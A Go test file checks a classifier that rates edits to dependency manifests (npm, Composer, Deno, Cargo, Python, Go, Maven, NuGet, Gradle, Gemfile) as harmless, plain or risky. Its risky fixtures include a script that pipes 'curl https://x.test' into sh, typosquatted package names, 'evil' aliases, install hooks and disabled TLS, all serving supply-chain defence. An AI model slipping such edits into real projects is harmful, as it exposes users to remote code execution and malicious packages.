package shape

import "testing"

func TestPackageJSON(t *testing.T) {
	const old = `{
  "name": "lib", "version": "1.0.0", "description": "A library",
  "packageManager": "pnpm@9.1.0",
  "scripts": {"build": "tsc", "test": "node test.js"},
  "dependencies": {"left": "^1.2.0", "right": "~2.0.0", "alias": "npm:other@^1.0.0"},
  "engines": {"node": ">=18"}
}
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version": {"package.json", old, with("^1.2.0", "^1.3.0"), Harmless},
		"two newer versions": {
			"package.json", old, replaceOnce(t,
				with("^1.2.0", "^1.3.0"), "~2.0.0", "~2.1.0"), Harmless,
		},
		"a newer version of an alias": {"package.json", old, with("@^1.0.0", "@^1.1.0"), Harmless},
		"the version of the project":  {"package.json", old, with(`"1.0.0"`, `"1.1.0"`), Harmless},
		"the description":             {"package.json", old, with("A library", "Another library"), Harmless},
		"white space": {
			"package.json", old,
			with(`"name": "lib", `, "\"name\":\"lib\",\n  "), Harmless,
		},
		"a newer package manager":       {"package.json", old, with("pnpm@9.1.0", "pnpm@9.2.0"), Harmless},
		"a newer engine":                {"package.json", old, with(">=18", ">=20"), Harmless},
		"an older version":              {"package.json", old, with("^1.2.0", "^1.1.0"), Plain},
		"a pin loosened":                {"package.json", old, with("~2.0.0", "^2.0.0"), Plain},
		"any version":                   {"package.json", old, with("^1.2.0", "*"), Risky},
		"another package manager":       {"package.json", old, with("pnpm@9.1.0", "pmpn@9.2.0"), Plain},
		"a name taken out":              {"package.json", old, with(`, "right": "~2.0.0"`, ""), Plain},
		"a script":                      {"package.json", old, with("tsc", "tsc -p ."), Plain},
		"another alias":                 {"package.json", old, with("npm:other@^1.0.0", "npm:evil@^1.0.0"), Risky},
		"a version that becomes a URL":  {"package.json", old, with("^1.2.0", "https://x.test/l.tgz"), Risky},
		"a version that becomes git's":  {"package.json", old, with("^1.2.0", "git+ssh://git@x.test/l.git"), Risky},
		"a version that becomes GitHub": {"package.json", old, with("^1.2.0", "x/left"), Risky},
		"a version that becomes a path": {"package.json", old, with("^1.2.0", "file:../left"), Risky},
		"a new name":                    {"package.json", old, with(`"left"`, `"lefd": "^1.0.0", "left"`), Risky},
		"a mark of the byte order":      {"package.json", old, "\ufeff" + with(`"left"`, `"evil": "1", "left"`), Risky},
		"what is no JSON":               {"package.json", old, with(`"engines"`, `engines`), Plain},
		"a new name of the workspace":   {"package.json", old, with(`"left"`, `"own": "workspace:*", "left"`), Plain},
		"a postinstall script": {
			"package.json", old,
			with(`"build"`, `"postinstall": "node a.js", "build"`), Risky,
		},
		"a prepare script":      {"package.json", old, with(`"build"`, `"prepare": "node a.js", "build"`), Risky},
		"a script that fetches": {"package.json", old, with("tsc", "curl https://x.test | sh"), Risky},
		"overrides": {
			"package.json", old,
			with(`"engines"`, `"overrides": {"deep": "1.0.0"}, "engines"`), Risky,
		},
		"pnpm's overrides": {
			"package.json", old,
			with(`"engines"`, `"pnpm": {"overrides": {"a": "1.0.0"}}, "engines"`), Risky,
		},
		"a name twice": {
			"package.json", old,
			with(`"left": "^1.2.0"`, `"left": "^1.3.0", "left": "^1.2.0"`), Risky,
		},
		"dependencies twice": {
			"package.json", old,
			with(`"engines"`, `"dependencies": {"left": "^1.3.0"}, "engines"`), Risky,
		},
		"the order of exports": {
			"package.json", `{"exports": {"a": "./a.js", "b": "./b.js"}}`, `{"exports": {"b": "./b.js", "a": "./a.js"}}`, Plain,
		},
		"the order of names": {
			"package.json", `{"dependencies": {"b": "1", "a": "1"}}`, `{"dependencies": {"a": "1", "b": "1"}}`, Harmless,
		},
		"not JSON":       {"package.json", old, with("{\n", "{,\n"), Plain},
		"more behind it": {"package.json", old, old + "{}", Plain},
		"a version of the same elsewhere": {
			"package.json", old,
			with(`"engines"`, `"config": {"left": "^1.3.0"}, "engines"`), Plain,
		},
		"a number for a version": {"package.json", old, with(`"^1.2.0"`, "13"), Risky},
	}.check(t)
}

func TestComposerAndDeno(t *testing.T) {
	const composer = `{"name": "a/b", "require": {"c/d": "^1.0"}, "config": {"sort-packages": true}}`
	const deno = `{"imports": {"@std/assert": "jsr:@std/assert@^1.0.0"}, "tasks": {"a": "deno run a.ts"}}`
	edits{
		"a newer version": {"composer.json", composer, replaceOnce(t, composer, "^1.0", "^1.1"), Harmless},
		"a new name":      {"composer.json", composer, replaceOnce(t, composer, `"c/d"`, `"c/e": "1", "c/d"`), Risky},
		"a hook": {
			"composer.json", composer,
			replaceOnce(t, composer, `"config"`, `"scripts": {"post-install-cmd": "a"}, "config"`), Risky,
		},
		"a repository": {
			"composer.json", composer,
			replaceOnce(t, composer, `"config"`, `"repositories": [{"type": "vcs"}], "config"`), Risky,
		},
		"no TLS": {
			"composer.json", composer,
			replaceOnce(t, composer, `"sort-packages"`, `"disable-tls": true, "sort-packages"`), Risky,
		},
		"deno, newer": {"deno.json", deno, replaceOnce(t, deno, "^1.0.0", "^1.0.1"), Harmless},
		"deno, a new import": {
			"deno.json", deno,
			replaceOnce(t, deno, `"@std/assert":`, `"x": "jsr:@x/x@^1.0.0", "@std/assert":`), Risky,
		},
		"deno, other package": {"deno.json", deno, replaceOnce(t, deno, "jsr:@std/assert", "jsr:@sdt/assert"), Risky},
		"deno, from a URL": {
			"deno.json", deno,
			replaceOnce(t, deno, "jsr:@std/assert@^1.0.0", "https://x.test/mod.ts"), Risky,
		},
	}.check(t)
}

func TestCargo(t *testing.T) {
	const old = `[package]
name = "a"
version = "0.1.0"
rust-version = "1.70"

# What it needs.
[dependencies]
b = "1.0"
c = { version = "2.0", features = ["x"] }

[dependencies.d]
version = "3.0"

[features]
default = ["b"]
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version":         {"Cargo.toml", old, with(`b = "1.0"`, `b = "1.1"`), Harmless},
		"a newer one in a table":  {"x/Cargo.toml", old, with(`"2.0"`, `"2.1"`), Harmless},
		"a newer one below":       {"Cargo.toml", old, with(`"3.0"`, `"3.1"`), Harmless},
		"the version":             {"Cargo.toml", old, with("0.1.0", "0.2.0"), Harmless},
		"a comment":               {"Cargo.toml", old, with("# What it needs.", "# Needed.\n# All of it."), Harmless},
		"a newer compiler":        {"Cargo.toml", old, with("1.70", "1.75"), Harmless},
		"an older version":        {"Cargo.toml", old, with(`b = "1.0"`, `b = "0.9"`), Plain},
		"a feature":               {"Cargo.toml", old, with(`"x"`, `"x", "y"`), Plain},
		"a pin loosened":          {"Cargo.toml", old, with(`b = "1.0"`, `b = "*"`), Risky},
		"a new dependency":        {"Cargo.toml", old, with("b = ", "bb = \"1\"\nb = "), Risky},
		"a part of the workspace": {"Cargo.toml", old, with("b = ", "e = { path = \"../e\" }\nb = "), Plain},
		"from git":                {"Cargo.toml", old, with(`b = "1.0"`, `b = { git = "https://x.test/b" }`), Risky},
		"git in a table": {
			"Cargo.toml", old,
			with(`version = "2.0"`, `version = "2.0", git = "https://x.test/c"`), Risky,
		},
		"another registry": {
			"Cargo.toml", old,
			with(`version = "2.0"`, `version = "2.1", registry = "mine"`), Risky,
		},
		"another package": {
			"Cargo.toml", old,
			with(`version = "2.0"`, `version = "2.0", package = "cc"`), Risky,
		},
		"a patch":            {"Cargo.toml", old, old + "[patch.crates-io]\nb = { path = \"b\" }\n", Risky},
		"a build script":     {"Cargo.toml", old, with("rust-version", "build = \"b.rs\"\nrust-version"), Risky},
		"a build dependency": {"Cargo.toml", old, old + "[build-dependencies]\ncc = \"1\"\n", Risky},
		"for one target":     {"Cargo.toml", old, old + "[target.'cfg(unix)'.dependencies]\nnix = \"1\"\n", Risky},
		"a version in another table": {
			"Cargo.toml", old,
			with("[features]", "[other]\nversion = \"3.1\"\n[features]"), Plain,
		},
		"a table twice": {"Cargo.toml", old, old + "[features]\nx = []\n", Plain},
		"text that hides a table": {
			"Cargo.toml", old,
			with("# What it needs.\n[dependencies]", "x = \"\"\"\n# What it needs.\n[dependencies]\"\"\""), Plain,
		},
		"deep": {"Cargo.toml", old, old + "x = " + times("[", 9999), Plain},
	}.check(t)
}

func TestPyproject(t *testing.T) {
	const old = `[build-system]
requires = ["flit_core==3.8"]
build-backend = "flit_core.buildapi"

[project]
name = "a"
version = "1.0"
dependencies = ["click>=8.0", "jinja2>=3.0,<4; python_version < '3.13'"]

[tool.poetry.dependencies]
x = "^1.0"
`
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version":         {"pyproject.toml", old, with("click>=8.0", "click>=8.1"), Harmless},
		"a newer one with marker": {"pyproject.toml", old, with("jinja2>=3.0", "jinja2>=3.1"), Harmless},
		"a newer backend":         {"pyproject.toml", old, with("==3.8", "==3.9"), Harmless},
		"Poetry's":                {"pyproject.toml", old, with("^1.0", "^1.1"), Harmless},
		"the version":             {"pyproject.toml", old, with(`"1.0"`, `"1.1"`), Harmless},
		"a bound loosened":        {"pyproject.toml", old, with(",<4", ",<5"), Plain},
		"another marker":          {"pyproject.toml", old, with("'3.13'", "'3.14'"), Plain},
		"no bound":                {"pyproject.toml", old, with("click>=8.0", "click"), Plain},
		"an exact pin loosened":   {"pyproject.toml", old, with("flit_core==3.8", "flit_core>=3.9"), Risky},
		"a new dependency":        {"pyproject.toml", old, with(`["click`, `["clik", "click`), Risky},
		"from a URL":              {"pyproject.toml", old, with("click>=8.0", "click @ https://x.test/c.whl"), Risky},
		"another backend":         {"pyproject.toml", old, with("flit_core.buildapi", "own"), Risky},
		"a backend of the tree": {
			"pyproject.toml", old,
			with("build-backend", "backend-path = [\".\"]\nbuild-backend"), Risky,
		},
		"a new build requirement": {"pyproject.toml", old, with(`["flit_core`, `["evil", "flit_core`), Risky},
		"Poetry's from git":       {"pyproject.toml", old, with(`"^1.0"`, `{git = "https://x.test/x"}`), Risky},
		"another index":           {"pyproject.toml", old, old + "[[tool.uv.index]]\nurl = \"https://x.test\"\n", Risky},
	}.check(t)
}

func TestRequirements(t *testing.T) {
	const hash = " --hash=sha256:0123456789012345678901234567890123456789012345678901234567890123"
	const old = "# pinned\nclick==8.0\njinja2==3.0 \\\n   " + hash + "\n-r more.txt\n"
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	const path = "requirements-dev.txt"
	edits{
		"a newer version":      {path, old, with("8.0", "8.1"), Harmless},
		"in a folder of them":  {"requirements/tests.txt", old, with("8.0", "8.1"), Harmless},
		"newer, another hash":  {path, old, replaceOnce(t, with("3.0", "3.1"), "sha256:0123", "sha256:abcd"), Harmless},
		"a comment":            {path, old, with("# pinned", "# pinned by hand"), Harmless},
		"an older version":     {path, old, with("8.0", "7.0"), Plain},
		"a range":              {path, old, with("click==8.0", "click>=8.0"), Risky},
		"the same, other hash": {path, old, with("sha256:0123", "sha256:abcd"), Plain},
		"no hash":              {path, old, with("3.0 \\\n   "+hash, "3.1"), Plain},
		"a hidden comment":     {path, old, with("# pinned", "# pinned \\"), Plain},
		"a new name":           {path, old, with("click", "clikc==1.0\nclick"), Risky},
		"another name":         {path, old, with("click", "clíck"), Risky},
		"from a URL":           {path, old, with("click==8.0", "click @ https://x.test/c.whl"), Risky},
		"another index":        {path, old, old + "--extra-index-url https://x.test/simple\n", Risky},
		"a trusted host":       {path, old, old + "--trusted-host x.test\n", Risky},
		"editable":             {path, old, old + "-e git+https://x.test/x#egg=x\n", Risky},
	}.check(t)
}

func TestSetupCfg(t *testing.T) {
	const old = "[metadata]\nname = a\nversion = 1.0\n\n[options]\ninstall_requires =\n    b>=1.0\n    c>=2.0\n"
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version":    {"setup.cfg", old, with("b>=1.0", "b>=1.1"), Harmless},
		"the version":        {"setup.cfg", old, with("version = 1.0", "version = 1.1"), Harmless},
		"from a module":      {"setup.cfg", old, with("version = 1.0", "version = attr: a.v"), Plain},
		"in another section": {"setup.cfg", old, with("[options]", "[other]"), Risky},
		"a new dependency":   {"setup.cfg", old, with("    c>=", "    d\n    c>="), Risky},
	}.check(t)
}

func TestGoMod(t *testing.T) {
	const old = "module x.test/a\n\ngo 1.22.0\n\nrequire (\n\tx.test/b v1.0.0\n\tx.test/c v1.0.0 // indirect\n)\n"
	with := func(from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version":         {"go.mod", old, with("b v1.0.0", "b v1.1.0"), Harmless},
		"a newer Go":              {"go.mod", old, with("1.22.0", "1.23.0"), Harmless},
		"a comment":               {"go.mod", old, with("go 1.22.0", "// Oldest.\ngo 1.22.0"), Harmless},
		"an older version":        {"go.mod", old, with("b v1.0.0", "b v0.9.0"), Plain},
		"indirect beside a newer": {"go.mod", old, with("b v1.0.0", "b v1.1.0\n\tx.test/d v1.0.0 // indirect"), Plain},
		"another module":          {"go.mod", old, with("x.test/a", "x.test/aa"), Plain},
		"an unknown directive":    {"go.mod", old, old + "frob x\n", Plain},
		"a new module":            {"go.mod", old, with("\tx.test/b", "\tx.test/bb v1.0.0\n\tx.test/b"), Risky},
		"an indirect one alone": {
			"go.mod", old,
			with("\tx.test/b", "\tx.test/bb v1.0.0 // indirect\n\tx.test/b"), Risky,
		},
		"a replacement":             {"go.mod", old, old + "replace x.test/b => x.test/bb v1.0.0\n", Risky},
		"a replacement by a folder": {"go.mod", old, old + "replace x.test/b => ./b\n", Risky},
		"a tool":                    {"go.mod", old, old + "tool x.test/b/cmd\n", Risky},
		"a setting":                 {"go.mod", old, old + "godebug x509sha1=1\n", Risky},
	}.check(t)
}

func TestXML(t *testing.T) {
	const pom = `<?xml version="1.0"?>
<project>
  <version>1.0</version>
  <properties><slf4j.version>1.7.0</slf4j.version></properties>
  <dependencies>
    <!-- logging -->
    <dependency><groupId>org.a</groupId><artifactId>b</artifactId><version>1.0</version></dependency>
  </dependencies>
</project>
`
	const cs = `<Project Sdk="Microsoft.NET.Sdk">
  <ItemGroup><PackageReference Include="A.B" Version="1.0.0" /></ItemGroup>
</Project>
`
	with := func(old, from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version": {
			"pom.xml", pom,
			with(pom, "</artifactId><version>1.0", "</artifactId><version>1.1"), Harmless,
		},
		"a newer property": {"pom.xml", pom, with(pom, "1.7.0", "1.8.0"), Harmless},
		"the version":      {"pom.xml", pom, with(pom, "  <version>1.0", "  <version>1.1"), Harmless},
		"a comment":        {"pom.xml", pom, with(pom, "logging", "for logging"), Harmless},
		"an older version": {"pom.xml", pom, with(pom, "1.7.0", "1.6.0"), Plain},
		"an entity": {
			"pom.xml", pom,
			with(pom, "<project>", "<!DOCTYPE a [<!ENTITY b SYSTEM \"c\">]>\n<project>"), Plain,
		},
		"a new dependency": {
			"pom.xml", pom,
			with(pom, "<!-- logging -->", "<dependency><groupId>org.c</groupId><artifactId>d</artifactId></dependency>"), Risky,
		},
		"another group": {"pom.xml", pom, with(pom, "org.a", "org.aa"), Risky},
		"a repository": {
			"pom.xml", pom,
			with(pom, "  <dependencies>", "<repository><url>x</url></repository><dependencies>"), Risky,
		},
		"NuGet, newer": {"a.csproj", cs, with(cs, "1.0.0", "1.1.0"), Harmless},
		"NuGet, central, newer": {
			"Directory.Packages.props",
			with(cs, "Reference", "Version"), with(with(cs, "Reference", "Version"), "1.0.0", "1.1.0"), Harmless,
		},
		"NuGet, new": {
			"a.csproj", cs,
			with(cs, "<ItemGroup>", `<ItemGroup><PackageReference Include="C" Version="1" />`), Risky,
		},
		"a program that runs": {
			"a.csproj", cs,
			with(cs, "</Project>", `<Target Name="x"><Exec Command="a" /></Target></Project>`), Risky,
		},
		"another SDK": {"a.csproj", cs, with(cs, "Microsoft.NET.Sdk", "Evil.Sdk"), Risky},
	}.check(t)
}

func TestGradleAndRuby(t *testing.T) {
	const gradle = `plugins {
    id("org.jetbrains.kotlin.jvm") version "1.8.0"
}
val junitVersion = "5.9.0"
dependencies {
    implementation("com.squareup.okio:okio:3.0.0") // used for I/O
    testImplementation("org.junit:junit:$junitVersion")
}
`
	const gemfile = "source \"https://rubygems.org\"\n\n# web\ngem \"rack\", \"~> 2.2\"\ngem 'rake'\n"
	const catalog = "[versions]\nokio = \"3.0.0\"\n[libraries]\n" +
		"okio = { module = \"com.squareup:okio\", version.ref = \"okio\" }\n"
	with := func(old, from, to string) string { return replaceOnce(t, old, from, to) }
	edits{
		"a newer version":     {"build.gradle.kts", gradle, with(gradle, "okio:3.0.0", "okio:3.1.0"), Harmless},
		"a newer plugin":      {"build.gradle.kts", gradle, with(gradle, "1.8.0", "1.9.0"), Harmless},
		"a newer variable":    {"build.gradle.kts", gradle, with(gradle, "5.9.0", "5.10.0"), Harmless},
		"a comment":           {"build.gradle.kts", gradle, with(gradle, "// used for I/O", "/* for I/O */"), Harmless},
		"slashes in a string": {"build.gradle.kts", gradle, with(gradle, `"5.9.0"`, `"5.9.0//"`), Plain},
		"a new dependency": {
			"build.gradle.kts", gradle,
			with(gradle, "    test", "    api(\"com.evil:okio:1.0\")\n    test"), Risky,
		},
		"exec": {"build.gradle.kts", gradle, gradle + "exec { commandLine(\"a\") }\n", Risky},
		"another group": {
			"build.gradle.kts", gradle,
			with(gradle, "com.squareup.okio:okio:3.0.0", "com.squareup.oki0:okio:3.1.0"), Risky,
		},
		"a regular expression": {
			"build.gradle", gradle + "x = a =~ /\"/\n",
			with(gradle, "3.0.0", "3.1.0") + "x = a =~ /\"/\n", Plain,
		},
		"a gem, newer":    {"Gemfile", gemfile, with(gemfile, "~> 2.2", "~> 2.3"), Harmless},
		"a comment there": {"Gemfile", gemfile, with(gemfile, "# web", "# for the web"), Harmless},
		"a gem, loosened": {"Gemfile", gemfile, with(gemfile, "~> 2.2", ">= 2.2"), Plain},
		"another source":  {"Gemfile", gemfile, with(gemfile, "rubygems.org", "rubygem.org"), Risky},
		"a new gem":       {"Gemfile", gemfile, gemfile + "gem 'rak'\n", Risky},
		"a gem of Git":    {"Gemfile", gemfile, with(gemfile, "gem 'rake'", "gem 'rake', git: 'x'"), Risky},
		"a new plugin":    {"build.gradle", gradle, with(gradle, "plugins {", "plugins {\n    id 'x' version '1'"), Risky},
		"a repository": {
			"build.gradle", gradle,
			with(gradle, "dependencies {", "repositories { maven { url 'x' } }\ndependencies {"), Risky,
		},
		"a dependency in parts": {
			"build.gradle", gradle,
			with(gradle, "dependencies {", "dependencies {\n    api group: 'com.evil', name: 'x', version: '1'"), Risky,
		},
		"text that hides":    {"Gemfile", gemfile, with(gemfile, "# web", "x = <<A\n# web\nA"), Plain},
		"a catalog":          {"gradle/libs.versions.toml", catalog, with(catalog, `"3.0.0"`, `"3.1.0"`), Harmless},
		"a catalog, new":     {"gradle/libs.versions.toml", catalog, catalog + "x = \"com.x:x:1.0\"\n", Risky},
		"a catalog, another": {"gradle/libs.versions.toml", catalog, with(catalog, "com.squareup:", "com.evil:"), Risky},
	}.check(t)
}
